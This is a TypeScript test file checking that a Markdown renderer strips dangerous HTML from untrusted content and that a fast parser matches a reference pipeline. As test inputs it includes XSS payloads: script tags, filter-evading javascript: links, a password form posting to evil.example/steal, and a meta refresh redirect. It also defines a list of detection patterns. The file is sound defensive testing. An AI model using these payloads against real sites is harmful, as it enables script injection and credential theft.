/**
 * src/lib/markdown.ts: record bodies are untrusted Markdown. renderMarkdown must drop every way of
 * running code or sending people elsewhere unasked, keep harmless HTML, and keep the heading outline
 * right under the page's own h1.
 */
import fc from 'fast-check';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeSyntheticContent } from '../../scripts/lib/synthetic-content.ts';
import { renderMarkdown, renderMarkdownFast, renderMarkdownWithReference } from '../../src/lib/markdown.ts';
import { validateContent } from '../../src/lib/validation/validate.ts';
import { ROOT } from '../helpers/content.ts';

/** Things that must never appear in rendered HTML. */
const DANGEROUS = [
  /<script/i,
  /<iframe/i,
  /<form/i,
  /<style/i,
  /<meta/i,
  /<object/i,
  /<embed/i,
  /<base/i,
  /<link/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /alert\(/,
];

function expectSafe(html: string): void {
  for (const pattern of DANGEROUS) expect(html, `${pattern} in ${html}`).not.toMatch(pattern);
}

describe('renderMarkdown removes what could run code or mislead', () => {
  it('removes a script element together with its code', () => {
    const html = renderMarkdown('Hello <script>alert(1)</script> world');
    expectSafe(html);
    expect(html).toBe('<p>Hello  world</p>');
  });

  it('removes a block-level script', () => {
    const html = renderMarkdown('Before\n\n<script src="https://evil.example/x.js"></script>\n\nAfter');
    expectSafe(html);
    expect(html).toContain('<p>Before</p>');
    expect(html).toContain('<p>After</p>');
  });

  it('removes event handlers but keeps the element', () => {
    const html = renderMarkdown(
      '<img src="https://www.example.gov.uk/a.png" onerror="alert(1)" alt="A map"> <div onclick="alert(1)" onmouseover="alert(2)">hi</div>',
    );
    expectSafe(html);
    expect(html).toContain('<a href="https://www.example.gov.uk/a.png">Image: A map</a>');
    expect(html).toContain('<div>hi</div>');
  });

  it.each([
    ['a javascript: link', '[click](javascript:alert(1))'],
    ['a JaVaScRiPt: link in mixed case', '[click](JaVaScRiPt:alert(1))'],
    ['a javascript: link with leading spaces', '<a href="  javascript:alert(1)">click</a>'],
    ['a javascript: link split by a newline', '<a href="java\nscript:alert(1)">click</a>'],
    ['a data: link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">click</a>'],
    ['an entity-encoded javascript&#58; link in HTML', '<a href="javascript&#58;alert(1)">click</a>'],
    ['an entity-encoded javascript&#58; link in Markdown', '[click](javascript&#58;alert(1))'],
    ['a hex-entity javascript&#x3A; link', '<a href="javascript&#x3A;alert(1)">click</a>'],
  ])('removes the address of %s, keeping the link text', (_what, markdown) => {
    const html = renderMarkdown(markdown);
    expectSafe(html);
    expect(html).toBe('<p><a>click</a></p>');
  });

  it('removes an image whose source is a data: address', () => {
    const html = renderMarkdown('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">');
    expectSafe(html);
    expect(html).not.toMatch(/src=/);
  });

  it('removes an iframe', () => {
    const html = renderMarkdown('<iframe src="https://evil.example"></iframe>\n\nText');
    expectSafe(html);
    expect(html.trim()).toBe('<p>Text</p>');
  });

  it('removes a form, leaving no way to submit data', () => {
    const html = renderMarkdown(
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>',
    );
    expectSafe(html);
    expect(html).not.toMatch(/action=|type="password"|<button/);
  });

  it('removes a style element together with its rules, and style attributes', () => {
    const html = renderMarkdown('<style>body { display: none }</style>\n\n<p style="position:fixed;top:0">Text</p>');
    expectSafe(html);
    expect(html).not.toMatch(/display|style=/);
    expect(html).toContain('Text');
  });

  it('removes an SVG that holds a script', () => {
    const html = renderMarkdown(
      '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><circle r="10"/></a></svg>',
    );
    expectSafe(html);
    expect(html).not.toMatch(/<svg|<circle/);
  });

  it('removes a meta refresh', () => {
    const html = renderMarkdown('<meta http-equiv="refresh" content="0;url=https://evil.example">\n\nText');
    expectSafe(html);
    expect(html).not.toMatch(/refresh|evil/);
  });

  it('removes object, embed, base and link elements', () => {
    const html = renderMarkdown(
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">' +
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">\n\nText',
    );
    expectSafe(html);
    expect(html).not.toMatch(/evil/);
  });

  it('removes a template element with its content', () => {
    expect(renderMarkdown('<template><b>hidden</b></template>Shown')).toBe('<p>Shown</p>');
  });

  it('prefixes ids and names written in HTML, so they cannot clobber the page’s own', () => {
    expect(renderMarkdown('<a id="main-content" name="x">n</a>')).toBe(
      '<p><a id="user-content-main-content" name="user-content-x">n</a></p>',
    );
  });
});

describe('renderMarkdown keeps safe content', () => {
  it('keeps bold, italic and emphasis, in HTML and in Markdown', () => {
    expect(renderMarkdown('<b>bold</b> and <i>it</i> and **strong** and _em_')).toBe(
      '<p><b>bold</b> and <i>it</i> and <strong>strong</strong> and <em>em</em></p>',
    );
  });

  it('renders a GFM table', () => {
    const html = renderMarkdown('| Service | LGSL |\n|---|---|\n| Household waste collection | 524 |');
    expect(html).toMatch(/<table>[\s\S]*<th>Service<\/th>[\s\S]*<td>Household waste collection<\/td>[\s\S]*<td>524<\/td>[\s\S]*<\/table>/);
  });

  it('keeps a mailto link', () => {
    expect(renderMarkdown('[Email us](mailto:digital@example.gov.uk)')).toBe('<p><a href="mailto:digital@example.gov.uk">Email us</a></p>');
  });

  it('keeps https and http links', () => {
    expect(renderMarkdown('[Read more](https://www.example.gov.uk/page)')).toBe(
      '<p><a href="https://www.example.gov.uk/page">Read more</a></p>',
    );
    expect(renderMarkdown('<a href="http://www.example.gov.uk/">Old site</a>')).toBe(
      '<p><a href="http://www.example.gov.uk/">Old site</a></p>',
    );
  });

  it('keeps relative links', () => {
    expect(renderMarkdown('[Our roadmap](/roadmap/)')).toBe('<p><a href="/roadmap/">Our roadmap</a></p>');
  });

  it('turns a bare address into a link (GFM autolink)', () => {
    expect(renderMarkdown('See https://www.example.gov.uk/page')).toBe(
      '<p>See <a href="https://www.example.gov.uk/page">https://www.example.gov.uk/page</a></p>',
    );
  });

  it('turns an image into a link to it, named by its alt text, so that no page loads anything from another website', () => {
    expect(renderMarkdown('![Bin collection map](https://www.example.gov.uk/map.png)')).toBe(
      '<p><a href="https://www.example.gov.uk/map.png">Image: Bin collection map</a></p>',
    );
    expect(renderMarkdown('![](https://tracker.example/pixel.gif)')).toBe(
      '<p><a href="https://tracker.example/pixel.gif">Image: an image</a></p>',
    );
    expect(renderMarkdown('<img src="https://tracker.example/pixel.gif" width="1" height="1">')).not.toContain('<img');
  });

  it('keeps lists, code and quotes', () => {
    const html = renderMarkdown('- one\n- two\n\n`code`\n\n> quoted');
    expect(html).toContain('<ul>\n<li>one</li>\n<li>two</li>\n</ul>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<blockquote>');
  });

  it('keeps details and summary', () => {
    expect(renderMarkdown('<details><summary>More</summary>Hidden text</details>')).toBe(
      '<details><summary>More</summary>Hidden text</details>',
    );
  });

  it('shows code as text, escaped, not as HTML', () => {
    expect(renderMarkdown('```html\n<script>alert(1)</script>\n```')).toContain('&#x3C;script>alert(1)&#x3C;/script>');
  });

  it('keeps Welsh text', () => {
    expect(renderMarkdown('Gwastraff gardd — dŵr a thŷ')).toBe('<p>Gwastraff gardd — dŵr a thŷ</p>');
  });

  it('renders an empty or blank body as nothing', () => {
    expect(renderMarkdown('')).toBe('');
    expect(renderMarkdown('  \n\n\t')).toBe('');
  });
});

describe('renderMarkdown headings', () => {
  it('moves every heading down a level when the body uses a # heading, so the page keeps one h1', () => {
    expect(renderMarkdown('# What we did\n\n## Why\n\n### Detail')).toBe(
      '<h2 id="section-what-we-did">What we did</h2>\n<h3 id="section-why">Why</h3>\n<h4 id="section-detail">Detail</h4>',
    );
  });

  it('moves an h1 written in HTML down too', () => {
    expect(renderMarkdown('<h1>Raw heading</h1>')).toBe('<h2 id="section-raw-heading">Raw heading</h2>');
  });

  it('leaves headings alone when the body has no h1', () => {
    expect(renderMarkdown('## What we are doing\n\n### Why')).toBe(
      '<h2 id="section-what-we-are-doing">What we are doing</h2>\n<h3 id="section-why">Why</h3>',
    );
  });

  it('keeps an h6 at h6 when moving headings down', () => {
    expect(renderMarkdown('# One\n\n###### Six')).toBe('<h2 id="section-one">One</h2>\n<h6 id="section-six">Six</h6>');
  });

  it('gives headings ids from their text, made unique when repeated', () => {
    const html = renderMarkdown('## Next steps\n\n## Next steps\n\n## Dŵr & tŷ');
    expect(html).toContain('<h2 id="section-next-steps">Next steps</h2>');
    expect(html).toContain('<h2 id="section-next-steps-1">Next steps</h2>');
    expect(html).toMatch(/<h2 id="section-[^"]+">Dŵr &#x26; tŷ<\/h2>/);
  });
});

/**
 * Most bodies are parsed by Sätteri and only the rest by unified (see src/lib/markdown.ts); both feed
 * the same sanitiser. These tests hold the fast path to the reference pipeline's exact output, and keep
 * the hostile inputs above covering both paths.
 */
describe('the fast parser reads Markdown as the reference pipeline does', () => {
  const bodies = (contentDir: string) =>
    validateContent({ contentDir, today: '2026-11-26' })
      .content.records.map((record) => record.body ?? '')
      .filter((body) => body.trim() !== '');

  function compare(corpus: string[]): { fast: number } {
    let fast = 0;
    for (const body of corpus) {
      const html = renderMarkdownFast(body);
      if (html === undefined) continue;
      fast++;
      expect(html, body).toBe(renderMarkdownWithReference(body));
    }
    return { fast };
  }

  it('on every demonstration body in content/', () => {
    const corpus = bodies(join(ROOT, 'content'));
    expect(corpus.length).toBeGreaterThan(50);
    const { fast } = compare(corpus);
    expect(fast).toBeGreaterThan(corpus.length / 2);
  });

  it('on generated records, taking the fast path for all of them', () => {
    const target = join(mkdtempSync(join(tmpdir(), 'council-commons-markdown-')), 'content');
    try {
      writeSyntheticContent({ records: 600, target, source: join(ROOT, 'content') });
      const corpus = bodies(target);
      expect(corpus.length).toBeGreaterThan(300);
      expect(compare(corpus).fast).toBe(corpus.length);
    } finally {
      rmSync(join(target, '..'), { recursive: true, force: true });
    }
  });

  it('on generated Markdown of the kinds people write', () => {
    const word = fc.constantFrom(
      'council',
      'housing',
      'data',
      'Dŵr',
      'tŷ',
      "residents'",
      'e.g.',
      '2026',
      '£5',
      '50%',
      'A&E',
      'co-design',
      'snake_case',
      'x*y',
      'C#',
      'don’t',
      '"quoted"',
      '(aside)',
      'end.',
      'list:',
      'Q&A',
      'ab/cd',
      '~approx',
      'v1.2',
    );
    const phrase = fc.array(word, { minLength: 1, maxLength: 4 }).map((words) => words.join(' '));
    const inline = fc.oneof(
      { weight: 6, arbitrary: word },
      ...['*', '**', '_', '__', '~~', '`'].map((marker) => ({ weight: 1, arbitrary: phrase.map((text) => `${marker}${text}${marker}`) })),
      { weight: 1, arbitrary: phrase.map((text) => `[${text}](https://www.example.gov.uk/${text.length})`) },
      { weight: 1, arbitrary: phrase.map((text) => `[${text}](/roadmap/)`) },
      { weight: 1, arbitrary: phrase.map((text) => `![${text}](https://www.example.gov.uk/i.png)`) },
      { weight: 1, arbitrary: phrase.map((text) => `**${text} *nested* ${text}**`) },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          'https://www.example.gov.uk/page',
          'https://example.gov.uk/a?b=1&c=2.',
          'www.example.gov.uk',
          'digital@example.gov.uk',
          '(https://x.example/y)',
          'https://x.example/path_(1)',
        ),
      },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          '\\*',
          '&amp;',
          '&copy;',
          '&#58;',
          '—',
          '…',
          '!',
          '?',
          ',',
          ';',
          ':',
          '[javascript](javascript:alert(1))',
        ),
      },
    );
    const line = fc.array(inline, { minLength: 1, maxLength: 10 }).map((parts) => parts.join(' '));
    const lines = (max: number) => fc.array(line, { minLength: 1, maxLength: max });
    const block = fc.oneof(
      { weight: 4, arbitrary: lines(3).map((ls) => ls.join('\n')) },
      ...['# ', '## ', '### '].map((prefix) => ({ weight: 1, arbitrary: phrase.map((text) => `${prefix}${text}`) })),
      { weight: 1, arbitrary: lines(4).map((ls) => ls.map((l) => `- ${l}`).join('\n')) },
      { weight: 1, arbitrary: lines(4).map((ls) => ls.map((l) => `* ${l}`).join('\n\n')) },
      { weight: 1, arbitrary: lines(4).map((ls) => ls.map((l, i) => `${i + 1}. ${l}`).join('\n')) },
      { weight: 1, arbitrary: lines(3).map((ls) => ls.map((l) => `- ${l}\n  - ${l}`).join('\n')) },
      { weight: 1, arbitrary: lines(3).map((ls) => ls.map((l, i) => `- [${i % 2 ? 'x' : ' '}] ${l}`).join('\n')) },
      { weight: 1, arbitrary: lines(3).map((ls) => ls.map((l) => `> ${l}`).join('\n')) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(phrase, phrase, line, line)
          .map(([a, b, c, d]) => `| ${a} | ${b} |\n|:--|---:|\n| ${c.replace(/\|/g, '')} | ${d.replace(/\|/g, '')} |`),
      },
      { weight: 1, arbitrary: line.map((l) => `\`\`\`text\n${l}\n\`\`\``) },
      { weight: 1, arbitrary: lines(3).map((ls) => ls.join('  \n')) },
      { weight: 1, arbitrary: fc.constant('---') },
    );
    const markdown = fc.array(block, { minLength: 1, maxLength: 8 }).map((blocks) => blocks.join('\n\n'));
    let fast = 0;
    fc.assert(
      fc.property(markdown, (body) => {
        const html = renderMarkdownFast(body);
        if (html !== undefined) fast++;
        return html === undefined || html === renderMarkdownWithReference(body);
      }),
      { numRuns: 3000, seed: 2026 },
    );
    expect(fast).toBeGreaterThan(300);
  });

  it('on generated Markdown made of stray markers, or declines it', () => {
    const piece = fc.constantFrom(
      'word',
      'Dŵr',
      ' ',
      '  ',
      '\t',
      '\n',
      '\n\n',
      '*',
      '**',
      '_',
      '__',
      '~',
      '~~',
      '`',
      '[',
      ']',
      '(',
      ')',
      '!',
      '&',
      '&amp;',
      '&#58;',
      '#',
      '|',
      ':',
      '-',
      '.',
      '1.',
      '> ',
      '- ',
      '---',
      '===',
      '[r]',
      '[r]: /x',
      'https://a.example/x',
      'www.example.com',
      'a@b.example',
      '*em*',
      '**strong**',
      '~~del~~',
      '`code`',
      '[link](https://a.example)',
      '![img](https://a.example/i.png)',
      '[j](javascript:x)',
    );
    const markdown = fc.array(piece, { minLength: 1, maxLength: 30 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(markdown, (body) => {
        const html = renderMarkdownFast(body);
        return html === undefined || html === renderMarkdownWithReference(body);
      }),
      { numRuns: 3000, seed: 7 },
    );
  });

  it('keeps tables with their alignment, strikethrough, autolinks, heading ids and h1 demotion on the fast path', () => {
    const body =
      '# Plan\n\n## Next steps\n\n| Service | LGSL |\n|:--|--:|\n| Waste | 524 |\n\n' +
      '~~Old~~ plan, see https://www.example.gov.uk/plan and www.example.gov.uk.';
    const html = renderMarkdownFast(body);
    expect(html).toBe(renderMarkdownWithReference(body));
    expect(html).toContain('<h2 id="section-plan">Plan</h2>');
    expect(html).toContain('<h3 id="section-next-steps">Next steps</h3>');
    expect(html).toContain('<th align="left">Service</th>');
    expect(html).toContain('<td align="right">524</td>');
    expect(html).toContain('<del>Old</del>');
    expect(html).toContain('<a href="https://www.example.gov.uk/plan">https://www.example.gov.uk/plan</a>');
    expect(html).toContain('<a href="http://www.example.gov.uk">www.example.gov.uk</a>');
  });

  it('sanitises on the fast path too', () => {
    expect(renderMarkdownFast('[click](javascript:alert(1)) ![x](data:image/png;base64,AAAA) [ok](https://www.example.gov.uk/)')).toBe(
      '<p><a>click</a> <span>Image: x</span> <a href="https://www.example.gov.uk/">ok</a></p>',
    );
  });

  it.each([
    ['raw HTML', 'Some <b>bold</b> text'],
    ['an autolink in angle brackets', 'See <https://www.example.gov.uk/>'],
    ['a footnote', 'Text[^1]\n\n[^1]: The note.'],
    ['a backslash escape', 'Not \\*emphasis\\*'],
    ['a tilde fence', '~~~\ncode\n~~~'],
    ['a fence starting with a blank line', '```\n\ncode\n```'],
    ['an empty task', '- [ ]\n- [x] done'],
    ['a star inside a word', 'x*y and x*y'],
    ['stars and underscores side by side', '**word*_word'],
    ['a run of three markers', '***bold italic***'],
    ['an address running into a pipe', '| https://a.example/x| b |\n|---|---|\n| c | d |'],
    ['an email after a slash', 'https://a.example/xa@b.example'],
  ])('leaves %s to the reference pipeline', (_what, body) => {
    expect(renderMarkdownFast(body)).toBeUndefined();
    expect(renderMarkdown(body)).toBe(renderMarkdownWithReference(body));
  });
});
